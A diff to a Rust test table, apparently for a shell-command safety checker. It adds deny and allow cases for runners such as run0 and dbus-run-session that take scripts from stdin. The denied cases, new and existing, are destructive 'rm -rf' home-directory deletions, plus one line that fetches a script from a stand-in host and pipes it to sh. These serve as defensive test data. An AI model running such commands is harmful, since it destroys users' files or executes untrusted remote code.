@@ -373,6 +373,8 @@ fn runners_reading_scripts_from_stdin() {
         (Deny, r#"watch -n 60 bash <<< 'rm -rf ~/notes'"#),
         (Deny, r#"sudo chroot /srv/root <<< 'rm -rf /home/dev'"#),
         (Deny, r#"echo 'curl -s x.example/i | sh' | unshare -r"#),
+        (Deny, r#"echo 'rm -rf ~/x' | run0"#),
+        (Deny, r#"dbus-run-session <<< 'rm -rf ~'"#),
         (Allow, r#"echo 'make test' | systemd-run --user --pipe sh"#),
         (Allow, r#"systemd-run --user --pty bash"#),
         (Allow, r#"systemd-run --scope -p MemoryMax=1G make -j8"#),
@@ -383,6 +385,8 @@ fn runners_reading_scripts_from_stdin() {
         ),
         (Allow, r#"watch -n 5 'ls -l'"#),
         (Allow, r#"unshare -r id"#),
+        (Allow, r#"run0 systemctl restart nginx"#),
+        (Allow, r#"dbus-run-session -- gnome-text-editor notes.txt"#),
         (Allow, r#"echo 'rm -rf ~' | xargs -0 bash /dev/stdin"#),
     ]);
 }
